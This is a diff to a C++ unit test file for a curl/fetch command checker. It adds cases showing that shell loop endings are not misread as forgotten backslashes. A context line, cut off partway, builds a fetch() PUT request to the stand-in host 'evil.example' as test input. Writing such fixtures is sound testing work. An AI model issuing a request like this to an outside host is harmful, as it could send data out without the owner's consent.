@@ -131,6 +131,9 @@ void TestCalls::whatIsDifferentIsSaid_data()
     row("get", curl + u"-X GET "_s + d, {{Note::OddMethod, u"GET"_s}});
     row("unknown option", curl + u"--wobble "_s + d, {{Note::UnknownOption, u"--wobble"_s}});
     row("user", curl + u"-u me:you "_s + d, {{Note::TokenLeftOut, {}}});
+    // The end of a loop is no forgotten backslash.
+    for (const char *after : {"\ndone\n", "\n  done < ids.txt", "\n  sleep 2\ndone", "\nfi", "\n}\n"})
+        row(after, curl + d + QLatin1String(after), {});
     row("open quote", curl + u"-d '"_s + someBody(), {{Note::UnendedQuote, {}}});
     row("fetch",
         u"fetch('https://evil.example/data/core/ups/export/jobs', {method: 'PUT', headers: {'x-sandbox-name': 'dev', "
